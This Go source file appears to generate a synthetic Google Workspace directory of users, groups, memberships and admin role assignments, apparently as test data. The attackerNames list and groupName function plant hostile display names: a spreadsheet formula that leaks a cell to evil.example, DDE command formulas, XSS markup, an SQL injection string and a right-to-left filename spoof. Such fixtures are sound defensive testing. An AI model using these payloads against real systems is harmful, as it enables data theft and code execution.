package gengoogle

import (
	"strconv"
	"strings"
)

var (
	deptNames  = []string{"platform", "eng", "data", "sre", "security", "finance", "sales", "support", "marketing", "ml", "qa", "ops", "mobile", "web", "payments", "growth"}
	apps       = []string{"api", "web", "worker", "billing", "search", "ingest", "auth", "reports", "checkout", "catalog", "notify", "etl", "ledger", "gateway", "scheduler", "media"}
	firstNames = []string{"Alex", "Maria", "Li", "Sam", "Fatima", "Jonas", "Priya", "Diego", "Yuki", "Omar", "Emma", "Noah", "Ava", "Liam", "Mia", "Lucas", "Zoe", "Ivan", "Sara", "Kenji", "Amara", "Felix", "Nina", "Hugo", "Leila", "Mateo", "Chloe", "Arjun", "Ines", "Tom"}
	lastNames  = []string{"Garcia", "Chen", "Smith", "Muller", "Rossi", "Kim", "Nguyen", "Silva", "Khan", "Novak", "Brown", "Tanaka", "Dubois", "Okafor", "Johansson", "Kowalski", "Patel", "Lopez", "Ivanova", "Cohen", "Martin", "Sato", "Haddad", "Jensen", "Costa", "Meyer", "Walsh", "Ortiz", "Ali", "Berg"}
	// attackerNames are display names an attacker who can edit their own
	// profile would choose: spreadsheet formulas (CSV injection) and markup
	// (HTML injection in reports).
	attackerNames = []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
		`<script>alert(document.domain)</script>`,
		`+cmd|' /C calc'!A0`,
		`@SUM(1+9)*cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C notepad'!'A1'`,
		`"><img src=x onerror=alert(1)>`,
		`Robert'); DROP TABLE users;--`,
		"\u202egnp.exe Mallory",
	}
	listTopics = []string{"announcements", "book-club", "oncall", "interviews", "hackathon", "social", "release-notes", "security-champions",
		"guild-go", "guild-frontend", "offsite", "mentoring", "incident-review", "design-review", "running-club", "volunteers"}
	chainNames = []string{"gcp-org-admins", "platform-deployers", "prod-breakglass", "sre-escalation", "data-admins", "release-managers"}
	levelWords = []string{"owners", "leads", "core", "oncall", "rotation", "backup", "shadow", "trainees"}
	partners   = []string{"partner-a.example", "agency-b.example", "contractor-c.example", "vendor-d.example", "outsource-e.example"}
	consumer   = []string{"gmail.com", "googlemail.com"}
)

// Member roles and types as members.list writes them.
const (
	roleMember uint8 = iota
	roleManager
	roleOwner
)

var roleNames = []string{"MEMBER", "MANAGER", "OWNER"}

const (
	mUser uint8 = iota
	mGroup
	mExternal      // someone outside the domain (type EXTERNAL, or USER with a consumer account)
	mPartnerGroup  // a group of another customer
	mCustomer      // "all users in the customer" (type CUSTOMER)
	mServiceAcct   // a GCP service account (type USER)
	partnerGroups  = 10
	superAdmins    = 2
	groupsAdminIdx = 0 // mailing list 0 is it-helpdesk, holder of the groups admin role
	securityIdx    = 1 // mailing list 1 is the security team
)

// member is one members.list row; idx indexes users, groups, the external
// pool, partner groups or service accounts by kind.
type member struct {
	kind, role uint8
	idx        int
}

// Group categories.
const (
	catSpecial = iota
	catTree
	catChain
	catAccess
	catList
)

// groupRef locates group g in the layout.
type groupRef struct {
	cat   int
	level int // tree level, chain level
	idx   int // index within its level / chain / access / list range
}

func (o *Org) ref(g int) groupRef {
	switch {
	case g < nSpecial:
		return groupRef{cat: catSpecial, idx: g}
	case g < o.chainStart:
		for l := 1; l < o.treeLevels; l++ {
			if g < o.levelStart[l]+o.levelCount[l] {
				return groupRef{cat: catTree, level: l, idx: g - o.levelStart[l]}
			}
		}
	case g < o.accessStart:
		k := g - o.chainStart
		return groupRef{cat: catChain, level: k % o.cfg.Depth, idx: k / o.cfg.Depth}
	case g < o.miscStart:
		return groupRef{cat: catAccess, idx: g - o.accessStart}
	}
	return groupRef{cat: catList, idx: g - o.miscStart}
}

// leafSpan is the number of leaves under one node of tree level l.
func (o *Org) leafSpan(l int) int {
	n := 1
	for k := l; k < o.treeLevels-1; k++ {
		n *= o.fan
	}
	return n
}

// treeUsers is the user range [lo, hi) under tree node (l, j).
func (o *Org) treeUsers(l, j int) (int, int) {
	s := o.leafSpan(l)
	return int(o.leafUsers[j*s]), int(o.leafUsers[(j+1)*s])
}

// deptUsers is department d's user range.
func (o *Org) deptUsers(d int) (int, int) {
	if o.treeLevels < 2 {
		return 0, o.cfg.Users
	}
	return o.treeUsers(1, d)
}

// deptLeaves is department d's range of tree leaves (teams).
func (o *Org) deptLeaves(d int) (int, int) {
	if o.treeLevels < 2 {
		return 0, 0
	}
	s := o.leafSpan(1)
	return d * s, (d + 1) * s
}

// leafGroup is the group index of tree leaf t.
func (o *Org) leafGroup(t int) int { return o.levelStart[o.treeLevels-1] + t }

func (o *Org) deptName(d int) string {
	n := deptNames[d%len(deptNames)]
	if d >= len(deptNames) {
		n += strconv.Itoa(d / len(deptNames))
	}
	return n
}

// groupState is a group's churn state: name versions and, for mailing
// lists, how many external members it has.
type groupState struct {
	ver      int
	external int
}

func (o *Org) groupState(g int) groupState {
	var s groupState
	r := o.ref(g)
	if r.cat == catList && unit(o.hash(domList, r.idx, 7)) < o.cfg.External {
		s.external = 1 + int(o.hash(domList, r.idx, 8)%5)
	}
	for day := 1; day <= o.cfg.Round; day++ {
		if !o.happens(domGroupEvent, g, day, o.cfg.Churn) {
			continue
		}
		if r.cat == catList && o.hash(domGroupEvent, g, uint64(day))%2 == 0 {
			if s.external > 0 && o.hash(domGroupEvent, g, uint64(day), 1)%2 == 0 {
				s.external--
			} else if s.external < 8 {
				s.external++
			}
			continue
		}
		s.ver++
	}
	return s
}

// groupLocal is the local part of group g's email address.
func (o *Org) groupLocal(g int) string {
	r := o.ref(g)
	switch r.cat {
	case catSpecial:
		return [...]string{"all-staff", "everyone", "announce"}[g]
	case catTree:
		if r.level == 1 {
			return o.deptName(r.idx) + "-all"
		}
		d := r.idx / (o.levelCount[r.level] / o.nDept)
		if r.level == o.treeLevels-1 {
			return "team-" + o.deptName(d) + "-" + strconv.Itoa(r.idx)
		}
		return o.deptName(d) + "-l" + strconv.Itoa(r.level) + "-" + strconv.Itoa(r.idx)
	case catChain:
		base := chainNames[r.idx%len(chainNames)]
		if r.idx >= len(chainNames) {
			base += "-" + strconv.Itoa(r.idx)
		}
		if r.level == 0 {
			return base
		}
		return base + "-" + levelWords[r.level%len(levelWords)] + "-l" + strconv.Itoa(r.level)
	case catAccess:
		kind := "deployers"
		if r.idx%2 == 1 {
			kind = "viewers"
		}
		return "gcp-" + o.ProjectID(r.idx/2) + "-" + kind
	}
	switch r.idx {
	case groupsAdminIdx:
		return "it-helpdesk"
	case securityIdx:
		return "security-team"
	}
	return listTopics[o.hash(domList, r.idx, 1)%uint64(len(listTopics))] + "-" + strconv.Itoa(r.idx)
}

// GroupEmail is group g's primary address.
func (o *Org) GroupEmail(g int) string { return o.groupLocal(g) + "@" + o.cfg.Domain }

// groupName is group g's display name at churn state s.
func (o *Org) groupName(g int, s groupState) string {
	r := o.ref(g)
	if r.cat == catList && r.idx > securityIdx {
		switch o.hash(domList, r.idx, 2) % 5000 {
		case 0:
			return `=cmd|' /C calc'!A0`
		case 1:
			return `<b onmouseover=alert(1)>Team</b>`
		}
	}
	name := strings.ReplaceAll(o.groupLocal(g), "-", " ")
	if s.ver > 0 {
		name += " (v" + strconv.Itoa(s.ver+1) + ")"
	}
	return name
}

// groupAlias is an extra address of about one group in ten.
func (o *Org) groupAlias(g int) string {
	if unit(o.hash(domGroup, g, 1)) >= 0.1 {
		return ""
	}
	return "g-" + o.groupLocal(g) + "@" + o.cfg.Domain
}

// members calls fn for every direct member of group g, in members.list
// order. Cost O(members), except mailing lists: O(positions in their
// layer range), about 3.5 per member.
func (o *Org) members(g int, s groupState, fn func(member)) {
	r := o.ref(g)
	U := o.cfg.Users
	switch r.cat {
	case catSpecial:
		fn(member{kind: mUser, role: roleOwner, idx: 0})
		switch g {
		case gAllStaff:
			if o.treeLevels >= 2 {
				for j := range o.levelCount[1] {
					fn(member{kind: mGroup, idx: o.levelStart[1] + j})
				}
				return
			}
			for u := 1; u < U; u++ {
				fn(member{kind: mUser, idx: u})
			}
		case gEveryone:
			fn(member{kind: mCustomer})
		case gAnnounce:
			for u := 1; u < U; u++ {
				if unit(o.hash(domGroup, u, 2)) < 0.3 {
					role := roleMember
					if u%97 == 0 {
						role = roleManager
					}
					fn(member{kind: mUser, role: role, idx: u})
				}
			}
		}
	case catTree:
		lo, hi := o.treeUsers(r.level, r.idx)
		if r.level < o.treeLevels-1 {
			fn(member{kind: mUser, role: roleOwner, idx: lo})
			for c := r.idx * o.fan; c < (r.idx+1)*o.fan; c++ {
				fn(member{kind: mGroup, idx: o.levelStart[r.level+1] + c})
			}
			return
		}
		for u := lo; u < hi; u++ {
			role := roleMember
			switch {
			case u == lo:
				role = roleOwner
			case unit(o.hash(domGroup, u, 3)) < 0.05:
				role = roleManager
			}
			fn(member{kind: mUser, role: role, idx: u})
		}
	case catChain:
		D := o.cfg.Depth
		if r.level < D-1 {
			fn(member{kind: mGroup, idx: g + 1})
		}
		n := 1 + int(o.hash(domGroup, g, 4)%3)
		o.distinctUsers(g, 0, U, n, func(k, u int) {
			role := roleMember
			if k == 0 && r.level == 0 {
				role = roleOwner
			}
			fn(member{kind: mUser, role: role, idx: u})
		})
		if r.level == D-1 && o.cfg.ServiceAccounts > 0 && o.hash(domGroup, g, 5)%2 == 0 {
			fn(member{kind: mServiceAcct, idx: int(o.hash(domGroup, g, 6) % uint64(o.cfg.ServiceAccounts))})
		}
	case catAccess:
		p := r.idx / 2
		d := o.projectDept(p)
		lo, hi := o.deptUsers(d)
		n := 1 + int(o.hash(domGroup, g, 4)%5)
		o.distinctUsers(g, lo, hi, n, func(k, u int) {
			role := roleMember
			if k == 0 {
				role = roleOwner
			}
			fn(member{kind: mUser, role: role, idx: u})
		})
		if tlo, thi := o.deptLeaves(d); thi > tlo && o.cfg.Depth >= 2 {
			nt := min(thi-tlo, 1+int(o.hash(domGroup, g, 7)%3))
			start := int(o.hash(domGroup, g, 8) % uint64(thi-tlo))
			for k := range nt {
				fn(member{kind: mGroup, idx: o.leafGroup(tlo + (start+k)%(thi-tlo))})
			}
		}
		if r.idx%2 == 0 && unit(o.hash(domGroup, g, 9)) < 0.3 {
			fn(member{kind: mServiceAcct, idx: o.saIndex(p, 3)})
		}
		if unit(o.hash(domGroup, g, 10)) < 0.05 {
			fn(member{kind: mExternal, idx: int(o.hash(domGroup, g, 11) % uint64(o.extPool))})
		}
	case catList:
		j, rank := r.idx%layers, r.idx/layers
		b := o.layerBounds[j]
		first := true
		for pos := int(b[rank]); pos < int(b[rank+1]); pos++ {
			u := o.permute(j, pos)
			if o.masks[u]&(1<<j) == 0 {
				continue
			}
			role := roleMember
			switch {
			case first:
				role, first = roleOwner, false
			case unit(o.hash(domMember, u, uint64(j))) < 0.04:
				role = roleManager
			}
			fn(member{kind: mUser, role: role, idx: u})
		}
		if s.external > 0 {
			base := int(o.hash(domList, r.idx, 9) % uint64(o.extPool))
			for k := range min(s.external, o.extPool) {
				fn(member{kind: mExternal, idx: (base + k) % o.extPool})
			}
		}
		if unit(o.hash(domList, r.idx, 10)) < 0.02 {
			fn(member{kind: mPartnerGroup, idx: int(o.hash(domList, r.idx, 11) % partnerGroups)})
		}
		if o.cfg.ServiceAccounts > 0 && unit(o.hash(domList, r.idx, 12)) < 0.01 {
			fn(member{kind: mServiceAcct, idx: int(o.hash(domList, r.idx, 13) % uint64(o.cfg.ServiceAccounts))})
		}
	}
}

// distinctUsers picks n distinct users of [lo, hi) for group g: a run of
// consecutive users from a random start, wrapping.
func (o *Org) distinctUsers(g, lo, hi, n int, fn func(k, u int)) {
	size := hi - lo
	if size <= 0 {
		return
	}
	n = min(n, size)
	start := int(o.hash(domGroup, g, 12) % uint64(size))
	step := 1 + int(o.hash(domGroup, g, 13)%7)
	if size%step == 0 {
		step = 1 // a step sharing a factor with size could revisit a user
	}
	for k := range n {
		fn(k, lo+(start+k*step)%size)
	}
}

// countMembers is directMembersCount: the members call without output.
func (o *Org) countMembers(g int, s groupState) int {
	n := 0
	o.members(g, s, func(member) { n++ })
	return n
}

// Identifiers. Ids are bijections of the index (fmix), so they never
// collide; keys differ per seed so two seeds never share ids.

func (o *Org) idKey(dom uint64) uint64 { return o.hash(domID, int(dom)) }

func appendDecimalID(b []byte, lead byte, v uint64) []byte {
	b = append(b, lead)
	var tmp [20]byte
	s := strconv.AppendUint(tmp[:0], v, 10)
	for range 20 - len(s) {
		b = append(b, '0')
	}
	return append(b, s...)
}

func (o *Org) appendUserID(b []byte, u int) []byte {
	return appendDecimalID(b, '1', fmix(uint64(u)^o.idKey(domUser)))
}

// UserID is user u's Directory id (21 digits).
func (o *Org) UserID(u int) string { return string(o.appendUserID(nil, u)) }

func (o *Org) appendUserEmail(b []byte, u int) []byte {
	b = append(b, "user"...)
	b = strconv.AppendInt(b, int64(u), 10)
	b = append(b, '@')
	return append(b, o.cfg.Domain...)
}

// UserEmail is user u's primary address: user<u>@<domain>, the scheme
// every generator here uses so that one person matches across clouds.
func (o *Org) UserEmail(u int) string { return string(o.appendUserEmail(nil, u)) }

func base36(v uint64, width int) string {
	s := strconv.FormatUint(v, 36)
	if len(s) < width {
		s = strings.Repeat("0", width-len(s)) + s
	}
	return s
}

// GroupID is group g's Directory id (15 characters, like 03ep43zb2k1nf5j).
func (o *Org) GroupID(g int) string { return "0" + base36(fmix(uint64(g)^o.idKey(domGroup)), 14) }

func (o *Org) partnerGroupID(k int) string {
	return "0p" + base36(fmix(uint64(k)^o.idKey(domMember)), 13)
}

func (o *Org) partnerGroupEmail(k int) string {
	return "shared-" + strconv.Itoa(k) + "@" + partners[k%len(partners)]
}

// externalEmail is external pool address x: a third consumer accounts
// (listed as type USER with an id), the rest partner addresses (EXTERNAL).
func (o *Org) externalEmail(x int) string {
	f := strings.ToLower(firstNames[o.hash(domMember, x, 1)%uint64(len(firstNames))])
	l := strings.ToLower(lastNames[o.hash(domMember, x, 2)%uint64(len(lastNames))])
	if x%3 == 0 {
		return f + "." + l + strconv.Itoa(x) + "@" + consumer[x%len(consumer)]
	}
	return f + "." + l + strconv.Itoa(x) + "@" + partners[x%len(partners)]
}

func (o *Org) externalID(x int) string {
	if x%3 != 0 {
		return ""
	}
	return string(appendDecimalID(nil, '1', fmix(uint64(x)^o.idKey(domMember))))
}

// isAttacker reports whether user u has an attacker-style display name,
// and which one.
func (o *Org) isAttacker(u int) (string, bool) {
	for k, a := range o.attackers {
		if a == u {
			return attackerNames[k%len(attackerNames)], true
		}
	}
	return "", false
}

func (o *Org) userName(u, ver int) string {
	if n, ok := o.isAttacker(u); ok {
		return n
	}
	f := firstNames[o.hash(domName, u, 1)%uint64(len(firstNames))]
	l := lastNames[o.hash(domName, u, 2, uint64(ver/2))%uint64(len(lastNames))]
	return f + " " + l
}

// Admin roles (roles.list) and assignments (roleAssignments.list).
type adminRole struct {
	id         int64
	name       string
	privileges []string
	super      bool
}

const roleIDBase = 9170516996784129

func adminRoles() []adminRole {
	return []adminRole{
		{roleIDBase, "_SEED_ADMIN_ROLE", []string{"SUPER_ADMIN"}, true},
		{roleIDBase + 1, "_GROUPS_ADMIN_ROLE", []string{"GROUPS_ALL"}, false},
		{roleIDBase + 2, "_USER_MANAGEMENT_ADMIN_ROLE", []string{"USERS_ALL"}, false},
		{roleIDBase + 3, "_HELP_DESK_ADMIN_ROLE", []string{"USERS_RETRIEVE", "USERS_UPDATE"}, false},
		{roleIDBase + 4, "_SERVICES_ADMIN_ROLE", []string{"MANAGE_SERVICES"}, false},
		{roleIDBase + 5, "Groups Reader", []string{"GROUPS_RETRIEVE"}, false},
	}
}

type assignment struct {
	id        int64
	role      int64
	user      int // -1 when assigned to a group
	group     int
	scope     string
	orgUnit   string
	condition string
}

// securityGroupsOnly is the condition the Admin console writes for "only
// security groups" on a groups admin assignment.
const securityGroupsOnly = "api.getAttribute('cloudidentity.googleapis.com/groups.labels', []).hasAny(['groups.security']) && resource.type == 'cloudidentity.googleapis.com/Group'"

// assignments: super admins (users 0, 1), groups admins (two users and
// the it-helpdesk group), one of them only for security groups, a user
// administrator scoped to an org unit, a help desk group.
func (o *Org) assignments() []assignment {
	U := o.cfg.Users
	pick := func(k int) int { return int(o.hash(domUser, k, 99) % uint64(U)) }
	out := []assignment{}
	for u := range min(superAdmins, U) {
		out = append(out, assignment{role: roleIDBase, user: u, scope: "CUSTOMER"})
	}
	out = append(out,
		assignment{role: roleIDBase + 1, user: pick(1), scope: "CUSTOMER"},
		assignment{role: roleIDBase + 1, user: pick(2), scope: "CUSTOMER"},
		assignment{role: roleIDBase + 1, user: -1, group: o.miscStart + groupsAdminIdx, scope: "CUSTOMER"},
		assignment{role: roleIDBase + 1, user: pick(3), scope: "CUSTOMER", condition: securityGroupsOnly},
		assignment{role: roleIDBase + 2, user: pick(4), scope: "ORG_UNIT", orgUnit: "03ph8a2z1xyz" + strconv.Itoa(o.nDept%10)},
		assignment{role: roleIDBase + 3, user: -1, group: o.miscStart + securityIdx, scope: "CUSTOMER"},
	)
	for i := range out {
		out[i].id = 9100000000 + int64(i)
	}
	if o.nMisc <= securityIdx {
		// Too few groups for the lists: keep only user assignments.
		kept := out[:0]
		for _, a := range out {
			if a.user >= 0 {
				kept = append(kept, a)
			}
		}
		out = kept
	}
	return out
}

// delegatedAdmin reports whether user u holds a non-super admin role.
func (o *Org) delegatedAdmin(u int, as []assignment) bool {
	for _, a := range as {
		if a.user == u && a.role != roleIDBase {
			return true
		}
	}
	return false
}
